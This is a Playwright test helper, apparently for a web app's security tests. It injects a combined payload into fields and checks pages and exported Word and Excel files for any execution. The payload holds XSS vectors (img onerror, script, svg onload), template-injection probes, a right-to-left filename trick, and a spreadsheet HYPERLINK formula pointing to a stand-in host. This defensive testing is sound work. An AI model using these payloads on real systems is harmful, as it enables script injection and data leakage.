import { expect, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';

/** Runs, loads or computes something wherever it is not treated as text; ends with a right-to-left override. */
const PAYLOAD =
  `<img src=x onerror="window.__pwned=1">"><script>window.__pwned=2</script>` +
  `<svg/onload=window.__pwned=3>{{7*7}}{nama}{#personil}\${7*7}%3Cb%3E&lt;&#x27;\u202Egnp.tab\u202C`;

/** Composes a hostile text that names its field. */
export const hostile = (field: string) => `Zz ${field} ${PAYLOAD}`;
/** The text as it is stored: without format characters. */
export const stored = (text: string) => text.replace(/\p{Cf}/gu, '');
/** Composes a spreadsheet formula that names its field. */
export const formula = (field: string) => `=HYPERLINK("https://lain.example/?${field}";"${field}")`;

type Watch = { verify: () => Promise<void> };

/** Records scripts that ran, dialogs, requests and violations of the content security policy on a page. */
export async function watch(page: Page): Promise<Watch> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => seen.push(`error: ${error.message}`));
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) seen.push(`policy: ${message.text()}`);
  });
  page.on('request', (request) => {
    const url = new URL(request.url());
    const inside = ['data:', 'blob:'].includes(url.protocol) || url.origin === new URL(page.url()).origin;
    const first = page.url() === 'about:blank';
    if (!(inside || first) || /^\/(x|.*\/x)$/.test(url.pathname)) seen.push(`request: ${request.url()}`);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`Content Security Policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return {
    verify: async () => {
      const made = await page.evaluate(() => ({
        pwned: (window as { __pwned?: unknown }).__pwned,
        // Elements that the payload would create.
        images: document.querySelectorAll('img[src="x"], svg[onload], [onerror]').length,
        scripts: [...document.scripts].filter((script) => !script.src).length,
      }));
      expect(made, page.url()).toEqual({ pwned: undefined, images: 0, scripts: 0 });
      expect(seen, page.url()).toEqual([]);
    },
  };
}

/** Returns the text of a page and the values of its inputs. */
export const wordsOf = (page: Page) =>
  page.evaluate(() => {
    const inputs = [...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')];
    return [document.body.innerText, ...inputs.map((input) => input.value)].join('\n');
  });

/** Returns the parts of a Word or Excel file; each must be well-formed XML. */
export async function partsOf(page: Page, bytes: Buffer): Promise<Record<string, string>> {
  expect(bytes.subarray(0, 2).toString(), bytes.subarray(0, 200).toString()).toBe('PK');
  const parts = unzipSync(new Uint8Array(bytes));
  const xml = Object.entries(parts).filter(([name]) => /\.(xml|rels)$/.test(name));
  const texts = Object.fromEntries(xml.map(([name, part]) => [name, strFromU8(part)]));
  const broken = await page.evaluate((all) => {
    const parser = new DOMParser();
    const isBroken = (text: string) => parser.parseFromString(text, 'application/xml').querySelector('parsererror');
    return Object.entries(all).flatMap(([name, text]) => (isBroken(text) ? [name] : []));
  }, texts);
  expect(broken).toEqual([]);
  return texts;
}

/** Returns the text of a Word file, parsed by the browser. */
export async function printed(page: Page, bytes: Buffer): Promise<string> {
  const parts = await partsOf(page, bytes);
  return page.evaluate((text) => {
    const word = new DOMParser().parseFromString(text, 'application/xml');
    const paragraphs = [...word.getElementsByTagName('w:p')];
    return paragraphs.map((p) => [...p.getElementsByTagName('w:t')].map((t) => t.textContent).join('')).join('\n');
  }, parts['word/document.xml'] ?? '');
}
